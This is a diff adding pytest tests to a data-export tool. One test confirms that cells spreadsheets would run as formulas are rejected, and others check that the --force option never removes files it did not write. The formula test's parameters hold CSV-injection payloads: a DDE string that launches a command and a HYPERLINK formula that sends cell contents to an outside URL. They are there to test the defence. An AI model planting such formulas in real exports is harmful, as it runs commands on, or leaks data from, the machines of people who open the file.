@@ -221,6 +221,23 @@ def test_hostile_text_round_trips_exactly(export, data_dir: Path, tmp_path: Path
     assert HOSTILE in pq.read_table(tmp_path / "pq" / "positions.parquet").column("summary").to_pylist()
 
 
+@pytest.mark.parametrize("formula", ['=HYPERLINK("https://example.org/?q="&C2&D2,"see source")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1"])
+def test_a_text_a_spreadsheet_would_run_as_a_formula_is_refused_at_its_line(export, data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], formula: str) -> None:
+    """OWASP's rule for CSV injection, kept in the data rather than the export: what pandas reads
+    is the data itself, and no cell begins with = + - @."""
+    path = data_dir / "rounds" / JUNE / "russia.yaml"
+    text = path.read_text()
+    assert "summary: Short local ceasefires to collect the dead." in text
+    path.write_text(text.replace("summary: Short local ceasefires to collect the dead.", f"summary: {json.dumps(formula)}"))
+    code, err = export(str(tmp_path / "csv"))
+    assert code == 2
+    assert "russia.yaml:11:14: error: positions[1].summary: " in err
+    assert f"begins with {formula.strip()[0]!r}: a spreadsheet opening the CSV export would run it as a formula" in err
+    assert not (tmp_path / "csv").exists()
+    assert main(["--data", str(data_dir), "validate"]) == 1
+    capsys.readouterr()
+
+
 def test_csv_cells() -> None:
     assert [csv_cell(v) for v in (None, True, False, 60, 60.0, 2.5, dt.date(2025, 6, 2), "a")] == [
         "", "true", "false", "60", "60", "2.5", "2025-06-02", "a",
@@ -252,6 +269,56 @@ def test_force_replaces_an_earlier_export_and_only_that(export, tmp_path: Path) 
     assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["out", "positions"]), "no staging or old folder left"
     (out / "extra.txt").write_text("mine")
     assert export("--force", str(out))[0] == 1 and (out / "extra.txt").exists()
+
+
+def test_force_never_trusts_a_datapackage_it_did_not_write(export, tmp_path: Path) -> None:
+    """A forged datapackage.json listing a file of one's own does not make --force remove it."""
+    out = tmp_path / "out"
+    assert export(str(out))[0] == 0
+    package = json.loads((out / "datapackage.json").read_text())
+    package["resources"].append({"name": "report", "path": "report.docx"})
+    (out / "datapackage.json").write_text(json.dumps(package))
+    (out / "report.docx").write_text("a week of work")
+    code, err = export("--force", str(out))
+    assert code == 1 and "not an earlier export (report.docx)" in err
+    assert (out / "report.docx").read_text() == "a week of work"
+
+
+def test_force_through_a_link_replaces_the_export_behind_it(export, tmp_path: Path) -> None:
+    real = tmp_path / "exports" / "real"
+    real.parent.mkdir()
+    link = tmp_path / "out"
+    link.symlink_to(real)
+    assert export(str(link))[0] == 0
+    assert export("--force", str(link))[0] == 0
+    assert link.is_symlink() and (real / "positions.csv").is_file()
+    assert not [p.name for p in [*tmp_path.iterdir(), *real.parent.iterdir()] if p.name.startswith(".")]
+
+
+def test_a_staging_folder_left_by_a_killed_export_is_removed_by_the_next(export, tmp_path: Path) -> None:
+    """kill -9 during an export leaves its hidden folder; the next export beside it removes it,
+    but never one a live export holds (under its lock) or one made in the last minute."""
+    import fcntl
+    import os
+
+    old = 1_000_000_000  # long ago
+    left = tmp_path / ".out.abcd1234.partial"
+    held = tmp_path / ".out.efgh5678.partial"
+    fresh = tmp_path / ".out.ijkl9012.partial"
+    mine = tmp_path / ".out.notes"  # a hidden folder of one's own
+    for folder in (left, held, fresh, mine):
+        folder.mkdir()
+        (folder / "positions.csv").write_text("x")
+    for folder in (left, held, mine):
+        os.utime(folder, (old, old))
+    fd = os.open(held, os.O_RDONLY)
+    fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
+    try:
+        assert export(str(tmp_path / "out"))[0] == 0
+    finally:
+        os.close(fd)
+    assert not left.exists()
+    assert held.exists() and fresh.exists() and mine.exists()
 
 
 def test_an_empty_folder_and_missing_parents(export, tmp_path: Path) -> None:
